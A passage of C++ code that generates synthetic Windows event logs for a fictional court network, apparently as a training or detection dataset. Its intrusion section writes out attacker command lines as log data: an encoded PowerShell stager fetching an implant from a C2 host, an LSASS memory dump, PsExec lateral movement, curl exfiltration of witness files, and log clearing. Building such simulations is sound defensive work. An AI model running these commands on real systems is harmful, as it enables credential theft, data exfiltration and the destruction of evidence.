  log.logoff(wd->leave, me, 2);
}

void dc_day(HostLog& log, const World& w, int day) {
  Rng& rng = log.rng();
  for (uint32_t i = 0; i < 3 * w.scale; ++i) {
    log.service_state(random_between(rng, day_start(day), day_start(day + 1)), "Windows Update",
                      rng.percent(50) ? "running" : "stopped");
  }
  log.start(plus(day_start(day), 3 * kHour + rng.below(600) * kSecond), log.services(), kGpupdate,
            "gpupdate.exe /target:computer", system_account(), "System");
  for (size_t p = 0; p < w.people.size(); ++p) {
    const auto wd = work_day(w, static_cast<int>(p), day);
    if (!wd) continue;
    const Person& person = w.people[p];
    const Host& ws = w.workstations[static_cast<size_t>(person.workstation)];
    for (uint32_t k = 0; k < 2 * w.scale; ++k) {
      const Timestamp t =
          k == 0 ? plus(wd->arrive, kSecond) : random_between(rng, wd->arrive, wd->leave);
      EventSpec& e = log.security(4769, 0, 14337, t);
      Data d(e);
      d.s("TargetUserName", person.account + "@COURT.LOCAL").s("TargetDomainName", "COURT.LOCAL");
      const uint32_t svc = rng.below(3);
      d.s("ServiceName", svc == 0 ? "FS01$" : svc == 1 ? "DC01$" : "RDS01$");
      d.sid("ServiceSid", w.domain_sid + "-" + std::to_string(1001 + svc));
      d.hex32("TicketOptions", 0x40810000).hex32("TicketEncryptionType", 0x12);
      d.s("IpAddress", "::ffff:" + ws.ip).s("IpPort", std::to_string(rng.between(49152, 65000)));
      d.hex32("Status", 0).guid("LogonGuid", log.guid()).s("TransmittedServices", "-");
      const Account net = log.user(person, 0x200000 + (rng.next() & 0xFFFFFF));
      log.logon(plus(t, kSecond / 10), net, 3, ws.ip, ws.name, true);
      log.logoff(plus(t, 3 * kSecond), net, 3);
    }
  }
  // Administrators manage the domain from their workstations.
  for (int admin : {w.admin, 1}) {
    const auto wd = work_day(w, admin, day);
    if (!wd || rng.percent(40)) continue;
    const Person& person = w.people[static_cast<size_t>(admin)];
    const Host& ws = w.workstations[static_cast<size_t>(person.workstation)];
    const Timestamp t = random_between(rng, wd->arrive, wd->leave);
    const Account a = log.user(person, 0x300000 + (rng.next() & 0xFFFFFF));
    log.logon(t, a, 10, ws.ip, ws.name, false);
    const Process mmc = log.start(
        plus(t, 30 * kSecond), log.services(), kMmc,
        "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"", a, "High");
    (void)mmc;
    log.logoff(plus(t, 25 * kMinute), a, 10);
  }
}

void fs_day(HostLog& log, const World& w, int day) {
  Rng& rng = log.rng();
  for (uint32_t i = 0; i < 3 * w.scale; ++i) {
    log.service_state(random_between(rng, day_start(day), day_start(day + 1)), "Windows Update",
                      rng.percent(50) ? "running" : "stopped");
  }
  for (size_t p = 0; p < w.people.size(); ++p) {
    const auto wd = work_day(w, static_cast<int>(p), day);
    if (!wd) continue;
    const Person& person = w.people[p];
    const Host& ws = w.workstations[static_cast<size_t>(person.workstation)];
    const Account net = log.user(person, 0x400000 + (rng.next() & 0xFFFFFF));
    const Timestamp first = plus(wd->arrive, 30 * kSecond);
    log.logon(first, net, 3, ws.ip, ws.name, true);
    log.share_session(plus(first, kSecond), net, ws.ip, "\\\\*\\home", "\\??\\D:\\Shares\\home");
    // Home folder activity: inert, grows with the scale.
    for (uint32_t k = 0; k < 2 * w.scale; ++k) {
      std::string rel = person.account + "\\Documents\\notes_";
      add_dec(rel, rng.below(40));
      rel += ".docx";
      log.share_access(random_between(rng, first, wd->leave), net, ws.ip, "\\\\*\\home",
                       "\\??\\D:\\Shares\\home", rel, true);
    }
    // Case files within the role: a few a day, whatever the scale (the bulk-read
    // correlation must never see background).
    const auto folders = allowed_folders(person, w.cases.size());
    if (!folders.empty()) {
      log.share_session(plus(first, 2 * kSecond), net, ws.ip, "\\\\*\\cases",
                        "\\??\\D:\\Shares\\cases");
      const uint32_t reads = rng.between(2, 7);
      for (uint32_t k = 0; k < reads; ++k) {
        const auto& [c, f] = folders[rng.below(static_cast<uint32_t>(folders.size()))];
        const Case& kase = w.cases[static_cast<size_t>(c)];
        const auto& docs = kase.documents[static_cast<int>(f)];
        const Document& d = docs[rng.below(static_cast<uint32_t>(docs.size()))];
        const Timestamp t = random_between(rng, first, wd->leave);
        const std::string rel = share_relative(kase, f, d);
        log.share_access(t, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", rel, true);
        log.object_read(plus(t, kSecond / 20), net, "D:\\Shares\\cases\\" + rel);
      }
    }
    log.logoff(wd->leave, net, 3);
  }
}

void rds_day(HostLog& log, const World& w, int day, FileResult& result) {
  Rng& rng = log.rng();
  for (uint32_t i = 0; i < 2 * w.scale; ++i) {
    log.service_state(random_between(rng, day_start(day), day_start(day + 1)),
                      "Remote Desktop Services", "running");
  }
  for (size_t p = 0; p < w.people.size(); ++p) {
    const Person& person = w.people[p];
    if (!person.remote || is_weekend(day) || !rng.percent(40)) continue;
    Timestamp t = plus(day_start(day), 18 * kHour + rng.below(3 * 3600) * kSecond);
    if (rng.percent(12)) {  // a mistyped password first
      log.failed_logon(t, person.account, person.home_ip, "LAPTOP-" + person.account.substr(2, 4),
                       false);
      result.failures[{day, person.home_ip}][person.account] += 1;
      t = plus(t, 9 * kSecond);
    }
    const Account a = log.user(person, 0x500000 + (rng.next() & 0xFFFFFF));
    log.logon(t, a, 10, person.home_ip, "", false);
    const Process explorer =
        log.start(plus(t, 5 * kSecond), log.services(), kExplorer, "C:\\Windows\\Explorer.EXE", a);
    for (uint32_t k = 0; k < w.scale; ++k) {
      log.start(plus(t, (60 + k * 120) * kSecond), explorer, kWord,
                std::string("\"") + kWord.path + "\" /n \"C:\\Users\\" + person.account +
                    "\\Documents\\draft.docx\"",
                a);
    }
    log.logoff(plus(t, (30 + rng.below(90)) * kMinute), a, 10);
  }
}

// --- Internet attacks on RDS01 ---------------------------------------------------------

constexpr std::array<const char*, 6> kRdpGuesses = {"administrator", "admin", "Administrator",
                                                    "user",          "test",  "scanner"};

void rds_attacks(HostLog& log, const World& w, int day, FileResult& result) {
  for (const Attack& a : w.attacks) {
    if (a.day != day) continue;
    if (a.kind != AttackKind::kRdpBruteForce && a.kind != AttackKind::kRdpSpray) continue;
    Rng rng(a.seed);
    Timestamp t = a.start;
    const std::string workstation =
        rng.percent(50) ? "kali" : "WIN-" + std::to_string(rng.between(1000, 9999));
    if (a.kind == AttackKind::kRdpBruteForce) {
      const std::string account = rng.pick(kRdpGuesses);
      for (uint32_t i = 0; i < a.count; ++i) {
        log.failed_logon(t, account, a.source, workstation, account != "administrator");
        result.failures[{day_of(t), a.source}][account] += 1;
        t = plus(t, (2 + rng.below(6)) * kSecond + rng.below(1000) * 10000);
      }
    } else {
      // One or two guesses for each of a list of real staff accounts.
      std::vector<int> order;
      for (size_t p = 0; p < w.people.size(); ++p) order.push_back(static_cast<int>(p));
      for (size_t i = order.size() - 1; i > 0; --i) {
        std::swap(order[i], order[rng.below(static_cast<uint32_t>(i + 1))]);
      }
      for (uint32_t i = 0; i < a.count && i < order.size(); ++i) {
        const std::string& account = w.people[static_cast<size_t>(order[i])].account;
        const uint32_t tries = rng.percent(30) ? 2 : 1;
        for (uint32_t k = 0; k < tries; ++k) {
          log.failed_logon(t, account, a.source, workstation, false);
          result.failures[{day_of(t), a.source}][account] += 1;
          t = plus(t, (20 + rng.below(40)) * kSecond);
        }
      }
    }
  }
}

// --- The intrusion ------------------------------------------------------------------

std::string encoded_stager(const World& w) {
  // The base64 of the UTF-16LE script that downloads the implant.
  const std::string script =
      "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
      "$w.DownloadFile('https://" +
      w.intrusion.c2_host + "/api/v2/update','" +
      "$env:APPDATA\\Microsoft\\Teams\\tmsync.exe');"
      "Start-Process \"$env:APPDATA\\Microsoft\\Teams\\tmsync.exe\"";
  std::string utf16;
  for (char c : script) {
    utf16 += c;
    utf16 += '\0';
  }
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < utf16.size(); i += 3) {
    const uint32_t v = (static_cast<uint8_t>(utf16[i]) << 16) |
                       (static_cast<uint8_t>(utf16[i + 1]) << 8) |
                       static_cast<uint8_t>(utf16[i + 2]);
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += kAlphabet[(v >> 6) & 63];
    out += kAlphabet[v & 63];
  }
  if (i < utf16.size()) {
    uint32_t v = static_cast<uint8_t>(utf16[i]) << 16;
    if (i + 1 < utf16.size()) v |= static_cast<uint8_t>(utf16[i + 1]) << 8;
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += i + 1 < utf16.size() ? kAlphabet[(v >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

// The intruder's events on one host (the phases are fixed; times come from the world).
void intrusion(HostLog& log, const World& w, int index) {
  const Intrusion& in = w.intrusion;
  const int victim_ws = kFirstWorkstation + w.people[static_cast<size_t>(w.victim)].workstation;
  const Person& victim = w.people[static_cast<size_t>(w.victim)];
  const Person& admin = w.people[static_cast<size_t>(w.admin)];
  const Host& ws = w.workstations[static_cast<size_t>(victim.workstation)];
  Rng& rng = log.rng();
  const auto wd = work_day(w, w.victim, day_of(in.phish));
  const uint64_t victim_logon = wd ? wd->logon_id : 0x1a2b3c;
  const Account keller = log.user(victim, victim_logon);
  const Account stolen = log.user(admin, 0x7a0000 + (rng.next() & 0xFFFF));

  if (index == victim_ws) {
    // The administrator's helpdesk visit a week before left his credentials in LSASS.
    const Timestamp visit = plus(day_start(7), 14 * kHour + 12 * kMinute);
    const Account helpdesk = log.user(admin, 0x6b0000 + (rng.next() & 0xFFFF));
    log.logon(visit, helpdesk, 10, w.workstations[static_cast<size_t>(admin.workstation)].ip, "",
              false);
    log.logoff(plus(visit, 22 * kMinute), helpdesk, 10);

    Process outlook;
    outlook.image = &kOutlook;
    outlook.command_line = std::string("\"") + kOutlook.path + "\" ";
    outlook.pid = 4 * rng.between(1000, 4000);
    outlook.guid = log.guid();
    outlook.user = keller;
    Timestamp t = in.phish;
    const Process word = log.start(
        t, outlook, kWord,
        std::string("\"") + kWord.path +
            "\" /n "
            "\"C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
            "Outlook\\Q3K8ZP1M\\Request_protective_measures_2024-017.docm\" /o \"\"",
        keller);
    t = plus(t, 38 * kSecond);
    const Process cmd =
        log.start(t, word, kCmd,
                  "C:\\Windows\\system32\\cmd.exe /c start /b powershell.exe -nop -w hidden -enc " +
                      encoded_stager(w),
                  keller);
    t = plus(t, kSecond);
    const Process ps = log.start(
        t, cmd, kPowerShellExe, "powershell.exe  -nop -w hidden -enc " + encoded_stager(w), keller);
    log.script_block(plus(t, kSecond), keller,
                     "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
                     "$w.DownloadFile('https://" +
                         in.c2_host + "/api/v2/update','" +
                         "$env:APPDATA\\Microsoft\\Teams\\tmsync.exe');Start-Process "
                         "\"$env:APPDATA\\Microsoft\\Teams\\tmsync.exe\"",
                     true);
    log.connect(plus(t, 2 * kSecond), ps, w.proxy.ip, 3128, w.proxy.fqdn);
    log.file_created(plus(t, 6 * kSecond), ps, kImplant.path);
    t = plus(t, 8 * kSecond);
    const Process implant =
        log.start(t, ps, kImplant, std::string("\"") + kImplant.path + "\"", keller);
    // Calls home through the proxy until it is stopped.
    for (Timestamp b : in.beacons) log.connect(b, implant, w.proxy.ip, 3128, w.proxy.fqdn);
    // Discovery.
    t = in.discovery;
    const std::array<std::pair<const Image*, const char*>, 5> discovery = {{
        {&kWhoami, "whoami /all"},
        {&kNet, "net group \"Domain Admins\" /domain"},
        {&kNet, "net user adm.schmidt /domain"},
        {&kNltest, "nltest /dclist:court.local"},
        {&kNltest, "nltest /domain_trusts /all_trusts"},
    }};
    for (const auto& [image, command] : discovery) {
      const Process shell = log.start(
          t, implant, kCmd, std::string("C:\\Windows\\system32\\cmd.exe /c ") + command, keller);
      log.start(plus(t, kSecond / 5), shell, *image, command, keller);
      t = plus(t, 70 * kSecond);  // ground_truth.json's step times assume this spacing
    }
    // Credential dumping (the implant elevated itself; the document is not shown).
    t = in.dump;
    const Account keller_high{keller.name, keller.domain, keller.sid, keller.logon_id + 1};
    Process lsass;
    lsass.image = &kLsass;
    lsass.pid = log.lsass_pid();
    lsass.guid = log.guid();
    log.process_access(t, implant, lsass.pid, lsass.guid, "0x1010");
    t = plus(t, 75 * kSecond);
    const Process shell =
        log.start(t, implant, kCmd,
                  "C:\\Windows\\system32\\cmd.exe /c tasklist /fi \"imagename eq lsass.exe\"",
                  keller_high, "High");
    t = plus(t, 20 * kSecond);
    std::string dump_cmd =
        "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ";
    add_dec(dump_cmd, lsass.pid);
    dump_cmd += " C:\\ProgramData\\Temp\\dbg.dmp full";
    const Process dumper = log.start(t, shell, kRundll32, dump_cmd, keller_high, "High");
    log.process_access(plus(t, kSecond / 2), dumper, lsass.pid, lsass.guid, "0x1fffff");
    log.file_created(plus(t, 3 * kSecond), dumper, "C:\\ProgramData\\Temp\\dbg.dmp");
    // Lateral movement with the administrator's password.
    t = in.lateral;
    {
      EventSpec& e = log.security(4648, 0, 12544, t);
      Data d(e);
      d.sid("SubjectUserSid", keller.sid).s("SubjectUserName", keller.name);
      d.s("SubjectDomainName", keller.domain).hex64("SubjectLogonId", keller.logon_id);
      d.guid("LogonGuid", Guid{})
          .s("TargetUserName", admin.account)
          .s("TargetDomainName", w.netbios);
      d.guid("TargetLogonGuid", Guid{}).s("TargetServerName", w.fs.fqdn).s("TargetInfo", w.fs.fqdn);
      d.hex64("ProcessId", 0x4).s("ProcessName", "").s("IpAddress", w.fs.ip).s("IpPort", "445");
    }
    for (const Host* target : {&w.fs, &w.dc}) {
      const Process psexec =
          log.start(t, implant, kPsExec,
                    "C:\\ProgramData\\Temp\\PsExec64.exe \\\\" + target->fqdn +
                        " -accepteula -u COURT\\adm.schmidt -p ******** -s cmd.exe",
                    keller_high, "High");
      log.connect(plus(t, kSecond), psexec, target->ip, 445, target->fqdn);
      t = plus(t, 4 * kMinute);
    }
    // Staging: 7-Zip reads the witness folder over the share (FS01 logs each file).
    t = in.staging;
    const Case& kase = w.cases[0];
    const Process seven =
        log.start(t, implant, kSevenZip,
                  "\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mhe=on -p" + in.archive_password +
                      " C:\\ProgramData\\Temp\\upd_cache.7z \\\\fs01.court.local\\cases\\" +
                      kase.id + "\\witnesses\\*",
                  keller_high, "High");
    log.connect(plus(t, kSecond), seven, w.fs.ip, 445, w.fs.fqdn);
    log.file_created(plus(t, 90 * kSecond), seven, "C:\\ProgramData\\Temp\\upd_cache.7z");
    // Exfiltration through the proxy.
    t = in.exfiltration;
    const Process curl = log.start(t, implant, kCurl,
                                   "curl.exe -s -k -x http://proxy01.court.local:3128 -T "
                                   "C:\\ProgramData\\Temp\\upd_cache.7z https://" +
                                       in.exfil_host + "/u/7f3a9c2e/upd_cache.7z",
                                   keller_high, "High");
    log.connect(plus(t, kSecond), curl, w.proxy.ip, 3128, w.proxy.fqdn);
    log.start(plus(t, 9 * kMinute), implant, kCmd,
              "C:\\Windows\\system32\\cmd.exe /c del /f /q C:\\ProgramData\\Temp\\upd_cache.7z "
              "C:\\ProgramData\\Temp\\dbg.dmp",
              keller_high, "High");
    // Clearing the workstation's Security log last.
    t = plus(in.clearing, 6 * kMinute);
    log.start(t, implant, kWevtutil, "wevtutil.exe cl Security", keller_high, "High");
    log.security_log_cleared(plus(t, kSecond), keller_high);
    return;
  }
  if (index != kFsIndex && index != kDcIndex) return;
  const bool fs = index == kFsIndex;
  Timestamp t = plus(in.lateral, fs ? 5 * kSecond : 4 * kMinute + 5 * kSecond);
  log.logon(t, stolen, 3, ws.ip, ws.name, false);
  log.share_session(plus(t, kSecond), stolen, ws.ip, "\\\\*\\IPC$", "");
  log.share_session(plus(t, 2 * kSecond), stolen, ws.ip, "\\\\*\\ADMIN$", "\\??\\C:\\Windows");
  log.share_access(plus(t, 3 * kSecond), stolen, ws.ip, "\\\\*\\ADMIN$", "\\??\\C:\\Windows",
                   "PSEXESVC.exe", false);
  log.service_installed(plus(t, 4 * kSecond), stolen, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
  const Process svc = log.start(plus(t, 5 * kSecond), log.services(), kPsExeSvc,
                                "C:\\Windows\\PSEXESVC.exe", system_account(), "System");
  const Process shell = log.start(plus(t, 6 * kSecond), svc, kCmd, "\"cmd.exe\" ", stolen, "High",
                                  "C:\\Windows\\system32\\");
  if (fs) {
    log.start(plus(t, 40 * kSecond), shell, kNet, "net share", stolen, "High");
  } else {
    log.start(plus(t, 40 * kSecond), shell, kNet, "net group \"Domain Admins\" /domain", stolen,
              "High");
  }
  if (fs) {
    // Browsing the case share: 2025-003's witnesses, two statements opened.
    Timestamp c = in.collection;
    const Account net = stolen;
    log.share_session(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases");
    log.share_access(plus(c, kSecond), net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", "",
                     false);
    c = plus(c, 20 * kSecond);
    for (const char* id : {"2025-003", "2024-017"}) {
      log.share_access(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases",
                       std::string(id) + "\\witnesses", false);
      c = plus(c, 15 * kSecond);
    }
    for (const auto& [case_index, doc] : in.accessed_docs) {
      const Case& kase = w.cases[static_cast<size_t>(case_index)];
      const std::string rel = share_relative(
          kase, Folder::kWitnesses,
          kase.documents[static_cast<int>(Folder::kWitnesses)][static_cast<size_t>(doc)]);
      log.share_access(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", rel, true);
      log.object_read(plus(c, kSecond / 20), net, "D:\\Shares\\cases\\" + rel);
      c = plus(c, (50 + rng.below(60)) * kSecond);
    }
    // 7-Zip reading every witness file of 2024-017.
    c = plus(in.staging, 2 * kSecond);
    for (const auto& [case_index, doc] : in.exfiltrated_docs) {
      const Case& kase = w.cases[static_cast<size_t>(case_index)];
      const Document& d =
          kase.documents[static_cast<int>(Folder::kWitnesses)][static_cast<size_t>(doc)];
      const std::string rel = share_relative(kase, Folder::kWitnesses, d);
      log.share_access(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", rel, true);
      log.object_read(plus(c, kSecond / 20), net, "D:\\Shares\\cases\\" + rel);
      c = plus(c, (1 + d.bytes / 2'000'000) * kSecond + rng.below(900) * 10000);
    }
  }
  // Clearing the logs through a second PsExec session.
  t = plus(in.clearing, fs ? 0 : 2 * kMinute);
  const Process svc2 = log.start(t, log.services(), kPsExeSvc, "C:\\Windows\\PSEXESVC.exe",
                                 system_account(), "System");
  const Process shell2 =
      log.start(plus(t, kSecond), svc2, kCmd,
                "cmd.exe /c \"wevtutil.exe cl System & wevtutil.exe cl Security\"", stolen, "High",
                "C:\\Windows\\system32\\");
  log.start(plus(t, 2 * kSecond), shell2, kWevtutil, "wevtutil.exe cl System", stolen, "High");
  log.system_log_cleared(plus(t, 3 * kSecond), stolen);
  log.start(plus(t, 4 * kSecond), shell2, kWevtutil, "wevtutil.exe cl Security", stolen, "High");
  log.security_log_cleared(plus(t, 5 * kSecond), stolen);
}

// The trainee's reads through the share.
void trainee_share_reads(HostLog& log, const World& w) {
  const Person& p = w.people[static_cast<size_t>(w.trainee)];
  const Host& ws = w.workstations[static_cast<size_t>(p.workstation)];
  for (const TraineeRead& r : w.trainee_reads) {
    if (!r.through_share) continue;
    const Case& kase = w.cases[static_cast<size_t>(r.case_index)];
    const Document& d = kase.documents[static_cast<int>(r.folder)][static_cast<size_t>(r.document)];
    const std::string rel = share_relative(kase, r.folder, d);
    const Account a = log.user(p, 0x450000 + static_cast<uint64_t>(day_of(r.time)));
    log.share_access(r.time, a, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", rel, true);
    log.object_read(plus(r.time, kSecond / 20), a, "D:\\Shares\\cases\\" + rel);
  }
}

}  // namespace

void windows_jobs(const World& world, std::vector<FileJob>& jobs) {
  const int hosts = kFirstWorkstation + static_cast<int>(world.workstations.size());
  for (int i = 0; i < hosts; ++i) {
    jobs.push_back({"windows/" + host_at(world, i).name + "/" + kChannelFiles[0], 0, i});
  }
}

FileResult run_windows_job(const World& w, const FileJob& job, const std::string& out_dir) {
  namespace fs = std::filesystem;
  FileResult result;
  result.path = job.path;
  result.files = kChannels;
  const Host& host = host_at(w, job.index);
  HostLog log(w, job.index, derive_seed(w.seed, "windows/" + host.name));
  std::array<std::unique_ptr<evtx::EvtxWriter>, kChannels> writers;
  const fs::path folder = fs::path(out_dir) / "windows" / host.name;
  for (int c = 0; c < kChannels; ++c) {
    auto writer =
        evtx::EvtxWriter::create((folder / kChannelFiles[static_cast<size_t>(c)]).string());
    if (!writer.ok()) {
      result.error = writer.error().to_string();
      return result;
    }
    writers[static_cast<size_t>(c)] = std::make_unique<evtx::EvtxWriter>(std::move(*writer));
  }
  // The story's events, made once, handed out day by day.
  HostLog story(w, job.index, derive_seed(w.seed, "story/" + host.name));
  intrusion(story, w, job.index);
  if (job.index == kFsIndex) trainee_share_reads(story, w);
  std::vector<Ev>& story_events = story.events();
  std::stable_sort(story_events.begin(), story_events.end(),
                   [](const Ev& a, const Ev& b) { return a.time < b.time; });
  size_t next_story = 0;
  for (int day = 0; day < kDays; ++day) {
    log.events().clear();
    if (job.index == kDcIndex) {
      dc_day(log, w, day);
    } else if (job.index == kFsIndex) {
      fs_day(log, w, day);
    } else if (job.index == kRdsIndex) {
      rds_day(log, w, day, result);
      rds_attacks(log, w, day, result);
    } else {
      workstation_day(log, w, job.index - kFirstWorkstation, day);
    }
    std::vector<Ev>& events = log.events();
    while (next_story < story_events.size() && day_of(story_events[next_story].time) <= day) {
      events.push_back(std::move(story_events[next_story++]));
    }
    std::stable_sort(events.begin(), events.end(),
                     [](const Ev& a, const Ev& b) { return a.time < b.time; });
    for (const Ev& e : events) {
      if (day_of(e.time) < 0 || day_of(e.time) >= kDays) continue;
      auto added = writers[e.channel]->add(e.spec);
      if (!added.ok()) {
        result.error = added.error().to_string();
        return result;
      }
      ++result.records;
    }
  }
  for (auto& writer : writers) {
    result.bytes += writer->file_size();
    auto done = writer->finish();
    if (!done.ok()) {
      result.error = done.error().to_string();
      return result;
    }
  }
  return result;
}

}  // namespace vigil::synth::scenario
